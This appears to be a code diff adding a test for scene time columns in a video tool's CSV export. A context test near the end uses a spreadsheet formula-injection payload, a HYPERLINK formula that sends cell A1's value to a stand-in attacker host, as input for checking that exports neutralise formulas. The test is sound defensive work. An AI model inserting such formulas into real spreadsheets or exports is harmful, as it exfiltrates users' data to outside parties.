@@ -52,6 +52,18 @@ describe('structured exports', () => {
     expect(picked[0]).toEqual({ 'Video ID': v.id, 'Start Time (seconds)': '0.000' });
   });
 
+  it('scenes-csv gives each scene\'s times in the file too: the scene times plus the lead of a video that starts after its file', async () => {
+    const late = withScenes();
+    late.metadata!.videoStartSec = 1.5;
+    const rows = parse(await exportText([late, withScenes()], 'scenes-csv'), { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((r) => [r['Start Time (seconds)'], r['File Start Time (seconds)'], r['End Time (seconds)'], r['File End Time (seconds)']])).toEqual([
+      ['0.000', '1.500', '2.500', '4.000'],
+      ['2.500', '4.000', '3661.250', '3662.750'],
+      ['0.000', '0.000', '2.500', '2.500'],
+      ['2.500', '2.500', '3661.250', '3661.250'],
+    ]);
+  });
+
   it('writes text a spreadsheet would run as a formula with a leading quote in CSV, numbers as they are; the CLI flag and key turn it off', async () => {
     const v = withScenes();
     v.source.title = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
